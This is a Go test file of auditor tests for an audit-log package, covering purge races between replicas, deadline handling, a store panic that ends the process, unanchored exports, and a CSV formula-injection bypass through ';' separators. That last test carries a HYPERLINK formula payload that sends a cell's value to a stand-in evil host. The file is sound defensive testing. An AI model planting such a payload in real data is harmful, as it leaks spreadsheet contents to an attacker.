package audit_test

// Auditor tests of the audit log under failure and operations (axis
// "auditops"). Each test fails on the current code for the reason its
// comment gives.

import (
	"context"
	"encoding/csv"
	"encoding/hex"
	"errors"
	"os"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/guardhq/guard/audit"
	"github.com/guardhq/guard/store/memstore"
)

// beforeQuery runs first once, armed, before a Query reaches the store: a
// change landing between the moment Log.Purge's walk read the checkpoint
// and its first page of events (or between two of its pages, on a chain
// that takes more than one).
type beforeQuery struct {
	audit.Store
	mu    sync.Mutex
	first func()
}

func (b *beforeQuery) Query(ctx context.Context, tenant string, q audit.Query) ([]audit.Event, error) {
	b.mu.Lock()
	f := b.first
	b.first = nil
	b.mu.Unlock()
	if f != nil {
		f()
	}
	return b.Store.Query(ctx, tenant, q)
}

// Severity: medium. Log.Purge: "A purge that another (a replica's)
// overtook meanwhile [...] has nothing left to do [...]. One overtaken
// only part way (the other stopped at an older event) deletes the rest and
// counts from where it began". That holds only when the other purge lands
// between the walk and the store write (TestPurgeOvertaken). When it lands
// during the walk — after walk read the checkpoint, before it read the
// events, or between two pages of a long chain (1,000 events a page: a
// retention run on a large tenant takes a while, and Maintain runs "on one
// replica or several", each with its own clock and so its own cut) — and
// stopped at an older event than this purge's cut, the walk finds the
// first event after the checkpoint it read missing, reports a "sequence
// gap", and Purge answers ErrTampered. Verify starts over when the
// checkpoint moved (log.go Verify); Purge (log.go, Purge calling walk)
// does not. The facade keeps ErrTampered as it is (auditErr), so a routine
// race of two retention jobs is reported as tampering of the tenant's log,
// and Maintain fails the tenant and skips its other chores. Expected: the
// rest purged and no error, as documented for a purge overtaken part way
// (the walk starts over from the new checkpoint when it moved, as
// Verify's does).
func TestAuditAuditOps_1_PurgeRacingAnotherReplicaReportsTampering(t *testing.T) {
	c := newClock()
	inner := memstore.NewAudit()
	evs := recordDaily(t, newLog(t, inner, withClock(c)), c, "acme", 10)
	other := newLog(t, inner, withClock(c))
	s := &beforeQuery{Store: inner}
	s.first = func() {
		// The other replica's retention run, with a cut a little older.
		if n, err := other.Purge(context.Background(), "acme", evs[3].Time); err != nil || n != 3 {
			t.Errorf("the other replica's Purge = %d, %v; want 3", n, err)
		}
	}
	l := newLog(t, s, withClock(c))
	n, err := l.Purge(context.Background(), "acme", evs[5].Time)
	if err != nil {
		t.Errorf("Purge overtaken part way during its walk by another replica's = %d, %v; want the rest purged, no error", n, err)
	}
	if cp, _ := inner.Checkpoint(context.Background(), "acme"); cp.Seq != 5 {
		t.Errorf("checkpoint at Seq %d after the two purges, want 5 (events older than the later cut purged)", cp.Seq)
	}
}

// Severity: medium. Record: "If ctx ends first, Record returns ctx's
// error and the event may or may not have been stored." Not for the
// goroutine that leads the tenant's commit queue (log.go RecordAll calls
// drain synchronously): it commits in its own goroutine until its own
// event is stored, and its batch's context (batchContext) is cancelled
// only once every caller in the batch has given up. When callers who
// queued behind it share the batch of its last event (a burst of
// sign-ins; a background job with no deadline), the leader waits for the
// store as long as the most patient of them, past its own deadline: with
// the database hanging, an HTTP handler with a 200 ms deadline hangs
// until the store answers. Expected: the leader returns its ctx's error
// once its ctx ends, whoever is still committing its batch (e.g. the
// leader commits in another goroutine and waits like the others, as
// RecordAll's select does for non-leaders).
func TestAuditAuditOps_2_LeaderIgnoresItsDeadline(t *testing.T) {
	release := make(chan struct{})
	s := &hookStore{Store: memstore.NewAudit()}
	l := newLog(t, s, func(c *audit.Config) { c.MaxBatch = 2 })
	var wg sync.WaitGroup
	defer wg.Wait()
	defer close(release)
	s.onAppend = func(ctx context.Context, n int64, _ []audit.Event) error {
		switch n {
		case 1:
			// A caller without a deadline queues while the leader's
			// first batch is stored.
			wg.Go(func() { recordAsync(t, l, loginEvent("acme")) })
			time.Sleep(50 * time.Millisecond)
		case 2:
			<-release // the store hangs
		}
		return nil
	}
	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
	defer cancel()
	errc := make(chan error, 1)
	go func() {
		_, err := l.RecordAll(ctx, loginEvent("acme"), loginEvent("acme"), loginEvent("acme"))
		errc <- err
	}()
	select {
	case err := <-errc:
		if !errors.Is(err, context.DeadlineExceeded) {
			t.Errorf("RecordAll = %v, want DeadlineExceeded", err)
		}
	case <-time.After(2 * time.Second):
		t.Errorf("RecordAll with a 200ms deadline has not returned after 2s: its caller waits for the hanging store")
	}
}

// Severity: low. Export's CSV defends spreadsheets against formula
// injection by prefixing a cell that starts with '=', '+', '-', '@', tab,
// CR or LF with an apostrophe (export.go csvSafe), and encoding/csv
// quotes only cells holding a comma, a quote, CR or LF. A spreadsheet in
// a locale whose list separator is ';' (Excel in most of Europe opens a
// .csv with it) splits an unquoted cell at each ';', so a User-Agent
// (any client chooses it) of "Mozilla/5.0;=HYPERLINK(…)" gives a cell
// that starts with '=' and is evaluated, the defence bypassed. OWASP's
// CSV-injection guidance names the separators of other locales for this
// reason. Expected: no cell of the export, read with ';' as separator,
// starts with a formula character (e.g. quote every cell, or prefix any
// value holding ';' followed by a formula character).
func TestAuditAuditOps_3_CSVFormulaThroughSemicolonSeparator(t *testing.T) {
	l := newLog(t, memstore.NewAudit())
	e := loginEvent("acme")
	e.UserAgent = `Mozilla/5.0;=HYPERLINK("http://evil.example/?"&A1;"click")`
	record(t, l, e)
	out := exportString(t, l, "acme", audit.Query{}, audit.CSV)
	r := csv.NewReader(strings.NewReader(out))
	r.Comma = ';'
	r.LazyQuotes = true
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("reading the export as a ';' spreadsheet would: %v", err)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("a ';'-separated spreadsheet gets a formula cell %q from the export", cell)
			}
		}
	}
}

// Severity: low. drain (log.go): "If the store panics, the batch in
// flight fails, another goroutine carries on with the queue, and the panic
// goes on up the caller's stack." The leader hands the rest of the queue
// to a new goroutine (go l.drain(ts, nil)) once its own event is stored;
// a store panic there is recovered, the batch failed, and then panicked
// again in a goroutine that has no caller: the whole process dies. A host
// whose HTTP server recovers a handler's panic (net/http does) loses every
// request in flight to a store bug hit by one batch, which TestRecordStorePanic
// shows contained when it hits the leader. Expected: in the goroutine that
// has no caller, the panic fails the batch (its callers get the error)
// and is not re-raised; the process lives on.
func TestAuditAuditOps_5_StorePanicInHandedOffDrainKillsTheProcess(t *testing.T) {
	if os.Getenv("AUDITOPS_DRAIN_CHILD") == "1" {
		drainPanicChild(t)
		return
	}
	cmd := exec.Command(os.Args[0], "-test.run=^TestAuditAuditOps_5_StorePanicInHandedOffDrainKillsTheProcess$", "-test.count=1")
	cmd.Env = append(os.Environ(), "AUDITOPS_DRAIN_CHILD=1")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Errorf("a store panic in the handed-off drain goroutine ended the process (%v):\n%s", err, firstLines(string(out), 8))
	}
}

// drainPanicChild is the scenario of AUDITOPS-5, run in a child process:
// the leader's batch is stored, two callers queue meanwhile, and the
// store panics on their batch, committed by the goroutine the leader
// handed the queue to.
func drainPanicChild(t *testing.T) {
	s := &hookStore{Store: memstore.NewAudit()}
	l := newLog(t, s)
	var wg sync.WaitGroup
	s.onAppend = func(_ context.Context, n int64, _ []audit.Event) error {
		switch n {
		case 1:
			for range 2 {
				wg.Go(func() {
					if _, err := l.Record(context.Background(), loginEvent("acme")); err == nil {
						t.Error("Record of the batch the store panicked on succeeded")
					}
				})
			}
			time.Sleep(50 * time.Millisecond) // let them queue
		case 2:
			panic("store bug")
		}
		return nil
	}
	record(t, l, loginEvent("acme"))
	wg.Wait()
	time.Sleep(100 * time.Millisecond) // the handed-off goroutine's panic, if any, ends the process
}

func firstLines(s string, n int) string {
	lines := strings.SplitN(s, "\n", n+1)
	return strings.Join(lines[:min(n, len(lines))], "\n")
}

// Severity: low. The package documents the canonical encoding of events
// and of a checkpoint's CheckpointMAC "for verifiers written in other
// languages", and SECURITY-CHECKLIST §9 (audit chain) asks for "signed or
// exported checkpoints, needed to detect truncation". After a retention
// purge the first event of an export has a prev_mac that only the
// checkpoint vouches for, but Export writes events only (export.go), and
// neither Log nor the facade returns the checkpoint (Log reads it with
// Store.Checkpoint internally): an offline verifier of an ExportAudit file
// cannot tell the purge from whoever deleted the oldest events and wrote
// the file (or the database) without them. Expected: an export from the
// start of the chain carries the checkpoint it continues (Seq, MAC, At,
// CheckpointMAC), e.g. as its first JSON line / a leading CSV record, or
// Log/Guard expose it beside Report.Head.
func TestAuditAuditOps_6_ExportAfterPurgeCannotBeAnchoredOffline(t *testing.T) {
	c := newClock()
	s := memstore.NewAudit()
	l := newLog(t, s, withClock(c))
	evs := recordDaily(t, l, c, "acme", 5)
	if n, err := l.Purge(context.Background(), "acme", evs[2].Time); err != nil || n != 2 {
		t.Fatalf("Purge = %d, %v; want 2", n, err)
	}
	cp, err := s.Checkpoint(context.Background(), "acme")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range []audit.Format{audit.JSONLines, audit.CSV} {
		out := exportString(t, l, "acme", audit.Query{}, f)
		if !strings.Contains(out, hex.EncodeToString(cp.CheckpointMAC)) {
			t.Errorf("format %d: the export of a purged chain holds no checkpoint: its first event's prev_mac %x is anchored to nothing an offline verifier can check", f, evs[1].MAC)
		}
	}
}
